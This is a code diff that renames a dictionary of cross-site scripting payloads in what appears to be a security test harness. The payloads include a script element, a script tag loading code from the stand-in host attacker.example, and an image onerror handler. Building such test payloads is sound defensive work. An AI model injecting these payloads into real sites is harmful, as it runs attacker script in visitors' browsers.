@@ -7,7 +7,7 @@ from hostile.submission import HIT
 
 EVIL = "//attacker.example"
 
-_TEXTS = {
+TEXTS = {
     "script-element": ("Run script by a script element.", f"<script>{HIT}</script>"),
     "script-from-elsewhere": ("Load script from the attacker.", f"<script src={EVIL}/x.js></script>"),
     "image-with-a-handler": ("Run script when an image fails.", f'<img src=x onerror="{HIT}">'),
@@ -143,4 +143,4 @@ _TEXTS = {
     ),
 }
 
-ATTACKS = [answer_attack(name, purpose, text, browser=True) for name, (purpose, text) in _TEXTS.items()]
+ATTACKS = [answer_attack(name, purpose, text, browser=True) for name, (purpose, text) in TEXTS.items()]
